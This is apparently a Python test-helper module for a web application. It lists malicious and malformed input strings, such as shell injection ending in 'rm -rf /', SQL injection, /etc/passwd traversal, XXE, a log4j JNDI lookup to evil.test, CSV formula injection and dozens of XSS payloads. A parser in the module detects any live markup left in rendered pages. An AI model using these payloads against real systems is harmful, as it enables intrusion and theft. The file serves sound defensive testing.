"""What people and attackers type: strings that break pages, and a reader that finds anything left alive in one."""

import re
import unicodedata
from html.parser import HTMLParser

NAUGHTY = {
    "undefined": "undefined",
    "null": "null",
    "nil and none": "nil NIL None NaN Infinity",
    "true": "true",
    "zero": "0",
    "minus zero": "-0.0",
    "a huge number": "9" * 200,
    "a number with commas": "1,000,000.00",
    "arabic digits": "١٢٣٤٥",
    "exponent": "1E+308",
    "hex": "0xdeadbeef",
    "a path": "../../../../etc/passwd",
    "a windows path": "..\\..\\boot.ini C:\\con\\nul",
    "shell": "$(touch /tmp/x); `id` | cat && rm -rf /",
    "sql": "'; DROP TABLE tickets; --",
    "sql or": "' OR 1=1--",
    "sql like": "100%_\\%",
    "printf": "%s%d%n%x %(number)s {0} {number}",
    "django template": "{{ config }}{% csrf_token %}{# x #}",
    "jinja": "{{ ''.__class__.__mro__ }}",
    "ruby": "#{7*7} ${7*7} <%= 7*7 %>",
    "log4j": "${jndi:ldap://evil.test/a}",
    "csv formula": "=cmd|' /C calc'!A0",
    "csv plus": "+1+1",
    "csv at": "@SUM(1+1)",
    "ldap": "*)(uid=*))(|(uid=*",
    "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "entities": "&lt;b&gt; &amp;amp; &#60; &nbsp; &bogus;",
    "quotes": "“” ‘’ «» ‹› \"' `",
    "backslashes": "\\\\ \\' \\\" \\0 \\u0000",
    "zero width": "zero\u200bwidth\u200c\u200d\ufeffspace",
    "soft hyphen": "co\u00adope\u00adra\u00adtion",
    "right to left override": "\u202egnp.exe\u202c",
    "isolates": "\u2066evil\u2069 \u2067evil\u2069",
    "arabic": "الكل في المجمو عة",
    "arabic ligature": "﷽",
    "hebrew with points": "שָׁלוֹם",
    "emoji": "😀 👍🏽",
    "emoji family": "👨\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈",
    "flags": "🇮🇹🇩🇪🇫🇷",
    "regional half": "🇮",
    "decomposed": "e\u0301le\u0300ve na\u0308chste n\u0303",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302A\u0334\u0335\u031eL\u0321\u0322G\u0321\u0322O\u031b",
    "hangul": "\u1112\u1161\u11ab\u1100\u1173\u11af",
    "angstrom": "\u212b \u2126",
    "ligatures": "ﬁ ﬂ ſt ㎏",
    "full width": "ｆｕｌｌ　ｗｉｄｔｈ＜ｓｃｒｉｐｔ＞",
    "small caps": "ᴛʜᴇ ǫᴜɪᴄᴋ ʙʀᴏᴡɴ ғᴏx",
    "upside down": "˙ɐnbᴉlɐ ɐuƃɐɯ ǝɹolop",
    "mathematical": "𝕿𝖍𝖊 𝓺𝓾𝓲𝓬𝓴",
    "astral": "𠜎𠜱𠝹𠱓",
    "thai": "ก็ ผู้ใหญ่บ้าน",
    "turkish": "İıIi ŞşĞğ",
    "german": "Größenmaßstäbe ẞ",
    "cjk": "田中さんにあげて下さい 部落格",
    "control characters": "\x01\x02\x07\x08\x1b[31mred\x1b[0m\x7f",
    "C1 controls": "\x80\x81\x9f",
    "noncharacters": "\ufdd0\ufffe\uffff",
    "private use": "\ue000\uf8ff",
    "object replacement": "\ufffc\ufffd",
    "variation selectors": "☺\ufe0e ☺\ufe0f",
    "tag characters": "🏴\U000e0067\U000e0062\U000e007f",
    "a long word": "Averyveryverylongwordthatneverends" * 7,
    "many dots": "." * 200,
    "ogham space": "a\u1680b",
    "markdown": "**bold** _em_ `code` ~~gone~~ [a](b) ![c](d) # > - 1. | * \\*",
}

XSS = {
    "script": "<script>alert(1)</script>",
    "script upper": "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "image": '"><img src=x onerror=alert(1)>',
    "image in quotes": "' onmouseover='alert(1)' x='",
    "svg": "<svg/onload=alert(1)>",
    "svg script": "<svg><script>alert&#40;1&#41;</script></svg>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "mathml link": '<math href="javascript:alert(1)">x</math>',
    "mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation template": "<template><s><template><s><img src=x onerror=alert(1)></s></template>",
    "textarea": "</textarea><script>alert(1)</script>",
    "title": "</title><script>alert(1)</script>",
    "comment": "--><!-- --!><img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "iframe": '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "form": '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    "details": "<details open ontoggle=alert(1)>",
    "meta": '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href="//evil.test/">',
    "style": '<style>@import "//evil.test/x.css";</style><p style="background:url(javascript:alert(1))">',
    "javascript link": "[click](javascript:alert(1))",
    "javascript link in disguise": "[click](\x01java\tscript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](&#106;avascript:alert(1))",
    "vbscript and data links": "[a](vbscript:msgbox(1)) [b](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "autolinks": '<javascript:alert(1)> <data:text/html,x> <https://evil.test/"onmouseover=alert(1)>',
    "image link": '![x](javascript:alert(1)) ![y](https://evil.test/pixel.png"onload="alert(1))',
    "reference link": '[a]: javascript:alert(1) "onclick=alert(1)"',
    "link title": '[a](https://example.test "x\\" onclick=alert(1) y=\\"")',
    "code fence": '``` "onclick=alert(1)"><script>alert(1)</script>',
    "backtick": "`<script>alert(1)</script>`",
    "table": "| <img src=x onerror=alert(1)> | b |",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "template": "{{constructor.constructor('alert(1)')()}} <div x-data ng-app hx-get=/ hx-on:click=alert(1)>",
}

UNSEEN = tuple(NAUGHTY[name] for name in ("C1 controls", "noncharacters", "private use", "object replacement"))
"""What nobody can see by itself: refused as a text of anybody."""
WORDLESS = (*UNSEEN, NAUGHTY["quotes"], NAUGHTY["many dots"])
"""What has no letter, digit or symbol: refused as an answer, also as code."""
EMPTY_MARKUP = tuple(
    XSS[name]
    for name in (
        "script upper", "image", "svg animate", "mathml", "mutation", "mutation style", "mutation template", "iframe",
        "object", "details", "meta", "code fence",
    )
)  # fmt: skip
"""What says nothing to people once its markup is taken away: refused as an answer."""


def seen(said):
    """A text as it is taken of anybody: by itself, or beside a word where it cannot be seen."""
    return f"See: {said}" if said in UNSEEN else said


def answered(said):
    """A text as it is taken as an answer: by itself, or below a word where it says nothing."""
    return f"See:\n\n{said}" if said in WORDLESS + EMPTY_MARKUP else said


def kept(said):
    """A text as it is kept and shown: composed."""
    return unicodedata.normalize("NFC", said)


def on_one_line(said):
    return " ".join(kept(said).split())


OURS = {
    "a",
    "article",
    "aside",
    "blockquote",
    "body",
    "br",
    "button",
    "circle",
    "code",
    "datalist",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "fieldset",
    "footer",
    "form",
    "g",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "head",
    "header",
    "hr",
    "html",
    "input",
    "label",
    "legend",
    "li",
    "link",
    "main",
    "meta",
    "nav",
    "ol",
    "option",
    "p",
    "path",
    "pattern",
    "pre",
    "rect",
    "s",
    "script",
    "section",
    "select",
    "span",
    "strong",
    "summary",
    "svg",
    "table",
    "tbody",
    "td",
    "textarea",
    "tfoot",
    "th",
    "thead",
    "time",
    "title",
    "tr",
    "ul",
    "defs",
    "clippath",
    "caption",
    "noscript",
    "line",
    "polyline",
    "polygon",
    "ellipse",
}
"""The elements our pages are made of. Whatever else is in one came from somebody's text."""

ADDRESSES = {"href", "src", "action", "formaction", "hx-get", "hx-post", "data", "srcdoc", "poster", "cite"}
SCHEMES = {"http", "https", "mailto", "tel"}


class _Alive(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found, self.words = [], []

    def handle_starttag(self, tag, attributes):
        if tag not in OURS:
            self.found.append(f"<{tag}>")
        named = dict(attributes)
        is_data = named.get("type") == "application/json" and "src" not in named
        if tag == "script" and not is_data and not (named.get("src") or "").startswith("/static/"):
            self.found.append(f"script {named}")
        if tag == "link" and not (named.get("href") or "").startswith("/static/"):
            self.found.append(f"link {named}")
        for name, value in attributes:
            if name.startswith(("on", "style", "hx-on", "srcdoc", "x-", "ng-")):
                self.found.append(f"{name}={value}")
            if name in ADDRESSES and value and not _is_harmless(value):
                self.found.append(f"{name}={value}")

    def handle_startendtag(self, tag, attributes):
        self.handle_starttag(tag, attributes)

    def handle_data(self, data):
        self.words.append(data)


def _is_harmless(address):
    """Browsers skip white space and control characters in front of a scheme and inside it."""
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", address).lower())
    return scheme is None or scheme[1] in SCHEMES


def _read(page):
    reader = _Alive()
    reader.feed(page)
    reader.close()
    return reader


def alive(page):
    """What in a page's markup could do something that is not ours."""
    return _read(page).found


def text(page):
    """All the text of a page, character by character."""
    return "".join(_read(page).words)
